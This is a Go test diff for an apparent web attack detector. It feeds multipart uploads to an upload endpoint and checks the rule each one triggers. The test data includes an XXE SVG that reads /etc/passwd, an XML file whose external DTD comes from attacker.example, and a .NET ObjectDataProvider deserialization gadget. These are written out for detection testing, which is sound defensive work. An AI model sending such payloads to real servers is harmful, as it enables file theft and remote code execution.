@@ -244,3 +244,32 @@ func TestDeserializationBodies(t *testing.T) {
 		}
 	}
 }
+
+// TestUploadedDocuments sends documents as multipart file uploads, which
+// the server parses: an SVG or XML with an external entity, a JSON import
+// with a gadget; an ordinary SVG raises nothing.
+func TestUploadedDocuments(t *testing.T) {
+	ds, _ := mergedAndApart(t) // the injection detector too
+	part := func(file, ct, content string) string {
+		return "--U\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + file + "\"\r\nContent-Type: " + ct + "\r\n\r\n" + content + "\r\n--U--\r\n"
+	}
+	for _, c := range []struct{ body, want string }{
+		{part("avatar.svg", "image/svg+xml", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`), "xxe-external-entity"},
+		{part("import.xml", "application/octet-stream", `<!DOCTYPE r [<!ENTITY % e SYSTEM "http://attacker.example/x.dtd"> %e;]><r/>`), "xxe-external-entity"},
+		{part("import.json", "application/json", `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}`), "deserialization-gadget"},
+		{part("logo.svg", "image/svg+xml", `<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><title>Logo</title><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/></svg>`), ""},
+	} {
+		x := exchange()
+		x.Request.Method, x.Request.Path, x.Request.URI = "POST", "/api/v1/upload", "/api/v1/upload"
+		x.Request.Headers = append(x.Request.Headers, decoders.Header{Name: "content-type", Value: "multipart/form-data; boundary=U"})
+		x.Request.Body = []byte(c.body)
+		decoders.ExtractParams(x, nil)
+		var got []string
+		for _, a := range inspectAll(ds, x) {
+			got = append(got, a.RuleId)
+		}
+		if c.want == "" && len(got) > 0 || c.want != "" && !slices.Contains(got, c.want) {
+			t.Errorf("%.50s…: %v, want %q", c.body[60:], got, c.want)
+		}
+	}
+}
